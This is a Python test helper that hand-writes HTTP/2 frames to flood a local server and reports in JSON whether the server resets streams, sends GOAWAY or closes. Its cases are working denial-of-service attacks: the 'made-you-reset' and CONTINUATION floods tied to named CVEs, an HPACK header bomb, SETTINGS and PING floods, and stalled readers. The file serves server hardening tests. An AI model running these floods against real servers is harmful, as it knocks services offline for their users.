#!/usr/bin/python3
"""HTTP/2 floods a client can send to make a server do work for nothing, for h2_floods_test.

Usage: h2_floods.py PORT CASE [N]
Prints one JSON object: what the server did. Frames are written by hand (only HPACK comes from
python3-hpack, Debian's, which python3-h2 uses), because the point is to send what a
well-behaved client would not.

Cases:
  made-you-reset N   one connection, N streams: each a GET (HEADERS with END_STREAM) to
                     /slow/300 followed by a WINDOW_UPDATE of 2^31-1 on that stream, which
                     overflows its window, so the *server* resets it (CVE-2025-8671).
  data-past-length N one connection, N streams: a POST with content-length: 1 and 10 bytes
                     of DATA, which the server must reset (PROTOCOL_ERROR).
  continuation N     a HEADERS frame without END_HEADERS and N CONTINUATION frames of one
                     small field each (CVE-2024-27316): the connection ends.
  hpack-bomb N       a 4 KiB field put in the HPACK table once, then referred to N times
                     in one header block at 1 byte each: decoded, N x 4 KiB.
  settings-flood N   N empty SETTINGS frames, none of their ACKs read.
  ping-flood N       N PINGs, none of their ACKs read.
  settings-entries N one SETTINGS frame of N entries.
  stalled-reader N   N connections each announce a window of 0 (SETTINGS_INITIAL_WINDOW_SIZE),
                     open 128 GETs of /bytes/10000000 and send one PING, then read without ever
                     opening the window: every stream should be reset by the server after its
                     idle timeout.
"""

import json
import socket
import struct
import sys
import time

import hpack

HOST = "127.0.0.1"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


class Connection:
    def __init__(self, port, settings=(), small_receive_buffer=False):
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if small_receive_buffer:
            # So that the server's writes fill it and block at once, as with a client that
            # does not read across a real network, instead of loopback's megabytes.
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        self.sock.settimeout(5)
        self.sock.connect((HOST, port))
        self.decoder = hpack.Decoder()
        self.statuses = {}  # stream -> :status
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.encoder = hpack.Encoder()
        self.port = port
        self.buf = b""
        self.resets = {}  # stream -> error code
        self.responses = set()  # streams that got a HEADERS frame
        self.goaway = None  # its error code
        self.goaway_at = None
        self.closed = False
        body = b"".join(struct.pack(">HI", k, v) for k, v in settings)
        self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0, body))

    def headers(self, stream, method, path, extra=(), end_stream=True):
        block = self.encoder.encode(
            [(":method", method), (":scheme", "http"), (":authority", f"{HOST}:{self.port}"),
             (":path", path)] + list(extra))
        flags = END_HEADERS | (END_STREAM if end_stream else 0)
        return frame(HEADERS, flags, stream, block)

    def send(self, data):
        if self.closed:
            return False
        try:
            self.sock.sendall(data)
            return True
        except OSError:
            self.closed = True
            return False

    def pump(self, wait):
        """Reads what the server sent within `wait` seconds; answers its SETTINGS."""
        self.sock.settimeout(wait)
        try:
            data = self.sock.recv(1 << 20)
        except socket.timeout:
            return
        except OSError:
            self.closed = True
            return
        if not data:
            self.closed = True
            return
        self.buf += data
        while len(self.buf) >= 9:
            length = int.from_bytes(self.buf[0:3], "big")
            if len(self.buf) < 9 + length:
                break
            kind, flags = self.buf[3], self.buf[4]
            stream = int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
            payload = self.buf[9:9 + length]
            self.buf = self.buf[9 + length:]
            if kind == SETTINGS and not flags & ACK:
                self.send(frame(SETTINGS, ACK, 0))
            elif kind == RST_STREAM:
                self.resets[stream] = int.from_bytes(payload[0:4], "big")
            elif kind == HEADERS:
                self.responses.add(stream)
                try:
                    fields = dict(self.decoder.decode(payload))
                    self.statuses[stream] = int(fields.get(":status", 0))
                except Exception:
                    pass
            elif kind == GOAWAY and self.goaway is None:
                self.goaway = int.from_bytes(payload[4:8], "big")
                self.goaway_at = time.monotonic()

    def drain(self, seconds):
        end = time.monotonic() + seconds
        while not self.closed and time.monotonic() < end:
            self.pump(min(0.05, max(0.001, end - time.monotonic())))


def flood(port, n, per_stream):
    """Sends n streams, each `per_stream(conn, id)`, in batches of 50; returns what came back."""
    c = Connection(port)
    c.pump(0.2)
    start = time.monotonic()
    sent = 0
    for i in range(n):
        if c.goaway is not None or c.closed:
            break
        if not c.send(per_stream(c, 1 + 2 * i)):
            break
        sent += 1
        if sent % 50 == 0:
            # Paced as a careful attacker paces it: the server's resets of this batch are in
            # before the next, so that its open streams stay under SETTINGS_MAX_CONCURRENT_STREAMS
            # (which would end the connection with PROTOCOL_ERROR for a reason of its own).
            until = time.monotonic() + 0.5
            while len(c.resets) < sent and not c.closed and c.goaway is None \
                    and time.monotonic() < until:
                c.pump(0.01)
    c.drain(3)
    took = (c.goaway_at - start) * 1000 if c.goaway_at else None
    return {"streams_sent": sent, "resets": len(c.resets), "responses": len(c.responses),
            "goaway": c.goaway, "goaway_after_ms": took, "closed": c.closed}


def made_you_reset(port, n):
    return flood(port, n, lambda c, s: c.headers(s, "GET", "/slow/300")
                 + frame(WINDOW_UPDATE, 0, s, struct.pack(">I", 0x7FFFFFFF)))


def data_past_length(port, n):
    return flood(port, n, lambda c, s: c.headers(s, "POST", "/slow/300", [("content-length", "1")],
                                                  end_stream=False)
                 + frame(DATA, END_STREAM, s, b"x" * 10))


def stalled_reader(port, n):
    INITIAL_WINDOW_SIZE = 0x4
    conns = [Connection(port, [(INITIAL_WINDOW_SIZE, 0)]) for _ in range(n)]
    start = time.monotonic()
    for c in conns:
        c.send(b"".join(c.headers(1 + 2 * i, "GET", "/bytes/10000000") for i in range(128))
               + frame(PING, 0, 0, b"12345678"))
    # Until every stream is reset (or 30 s): when each connection's last reset came.
    all_reset = None
    end = start + 30
    while time.monotonic() < end:
        for c in conns:
            c.pump(0.01)
        if all(len(c.resets) >= 128 or c.closed for c in conns):
            all_reset = (time.monotonic() - start) * 1000
            break
    return {"streams": 128 * n, "responses": sum(len(c.responses) for c in conns),
            "resets": sum(len(c.resets) for c in conns),
            "cancel_resets": sum(1 for c in conns for code in c.resets.values() if code == 8),
            "all_reset_after_ms": all_reset, "closed": sum(1 for c in conns if c.closed)}


def connection_outcome(c, seconds=5):
    """Reads until the connection ends or `seconds` pass: what the server said."""
    start = time.monotonic()
    c.drain(seconds)
    took = (c.goaway_at - start) * 1000 if c.goaway_at else None
    ended = (time.monotonic() - start) * 1000 if c.closed else None
    return {"goaway": c.goaway, "goaway_after_ms": took, "closed": c.closed,
            "ended_after_ms": ended, "responses": len(c.responses),
            "resets": sorted(set(c.resets.values()))}


CONTINUATION = 9


def continuation(port, n):
    c = Connection(port)
    head = c.headers(1, "GET", "/")
    first = head[:4] + bytes([head[4] & ~END_HEADERS]) + head[5:]  # END_HEADERS off
    field = hpack.Encoder().encode([("x-a", "1")])
    c.send(first + b"".join(frame(CONTINUATION, 0, 1, field) for _ in range(n)))
    return connection_outcome(c)


def hpack_length(n):
    """A string's length as HPACK writes it without Huffman coding (RFC 7541 5.1, 7-bit prefix)."""
    if n < 127:
        return bytes([n])
    out, n = [0x7F], n - 127
    while n >= 128:
        out.append(n % 128 | 0x80)
        n //= 128
    return bytes(out + [n])


def hpack_bomb(port, n):
    c = Connection(port)
    # A literal with incremental indexing (0x40) puts the field at index 62; 0xbe refers to it.
    name, value = b"x-bomb", b"v" * 4000
    literal = bytes([0x40, len(name)]) + name + hpack_length(len(value)) + value
    pseudo = hpack.Encoder().encode([(":method", "GET"), (":scheme", "http"),
                                     (":authority", f"{HOST}:{port}"), (":path", "/")])
    block = pseudo + literal + b"\xbe" * n
    c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, block))
    out = connection_outcome(c, 3)
    out["status"] = c.statuses.get(1)
    return out


def unread_flood(port, n, one):
    """n copies of `one`, sent without reading what comes back: when the server stops reading
    (its answers queued, unsent), the rest are not sent."""
    c = Connection(port, small_receive_buffer=True)
    start = time.monotonic()
    sent = 0
    for _ in range(n // 1000):
        if not c.send(one * 1000):
            break
        sent += 1000
    out = connection_outcome(c)
    out["sent"] = sent
    out["ended_after_ms"] = (time.monotonic() - start) * 1000 if c.closed else None
    return out


def settings_flood(port, n):
    return unread_flood(port, n, frame(SETTINGS, 0, 0))


def ping_flood(port, n):
    return unread_flood(port, n, frame(PING, 0, 0, b"12345678"))


def settings_entries(port, n):
    c = Connection(port)
    c.send(frame(SETTINGS, 0, 0, struct.pack(">HI", 0x3, 100) * n))
    return connection_outcome(c)


CASES = {"continuation": continuation, "hpack-bomb": hpack_bomb,
         "settings-flood": settings_flood, "ping-flood": ping_flood,
         "settings-entries": settings_entries,"made-you-reset": made_you_reset, "data-past-length": data_past_length,
         "stalled-reader": stalled_reader}

if __name__ == "__main__":
    print(json.dumps(CASES[sys.argv[2]](int(sys.argv[1]), int(sys.argv[3]))))
